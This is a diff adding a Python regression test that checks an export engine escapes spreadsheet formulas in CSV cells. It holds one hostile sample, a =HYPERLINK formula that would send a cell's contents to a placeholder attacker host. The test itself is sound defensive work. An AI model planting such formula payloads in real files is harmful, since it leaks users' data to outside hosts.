@@ -115,3 +115,20 @@ def test_an_export_replaces_a_link_at_its_path_without_writing_through_it(town, 
     export(town, folder, tables=["cases"])
     assert target.read_text(encoding="utf-8") == "keep"
     assert not (folder / "cases.csv").is_symlink()
+
+
+def test_an_exported_cell_never_runs_as_a_formula(conn, workspace, rules, cfg, tmp_path):
+    """A household id from a hostile extract (=HYPERLINK…) is text in the export's CSV, as in every
+    other CSV the engine writes (found by a security review)."""
+    import csv as csvmod
+
+    from engine.store.export import export
+    from tests.helpers.conference import cycle
+    from tests.helpers.town import add_household, elder_and_son
+
+    hid = '=HYPERLINK("http://evil.example/?"&A1,"H1")'
+    add_household(conn, hid, *elder_and_son(), area="中央")
+    cycle(conn, workspace, rules, cfg)
+    (files,) = [export(conn, tmp_path / "export", tables=("cases",))]
+    cells = [c for row in csvmod.reader(files[0].path.open(encoding="utf-8")) for c in row]
+    assert "'" + hid in cells and hid not in cells
